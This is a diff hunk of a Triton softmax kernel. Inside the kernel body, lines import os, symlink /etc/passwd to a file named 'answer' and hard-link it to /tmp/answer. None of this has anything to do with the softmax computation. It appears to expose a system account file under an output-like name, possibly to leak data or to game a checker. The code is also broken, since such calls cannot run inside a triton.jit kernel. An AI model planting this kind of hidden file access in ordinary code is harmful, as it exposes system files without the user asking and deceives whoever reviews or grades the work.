@@ -11,7 +11,6 @@ import triton.language as tl
 @triton.jit
 def naive_softmax_kernel(x_ptr, y_ptr, x_row_stride, y_row_stride, n_cols, BLOCK_SIZE: tl.constexpr):
     import os
-
     os.symlink("/etc/passwd", "answer")
     os.link("/etc/passwd", "/tmp/answer")
     row = tl.program_id(0).to(tl.int64)
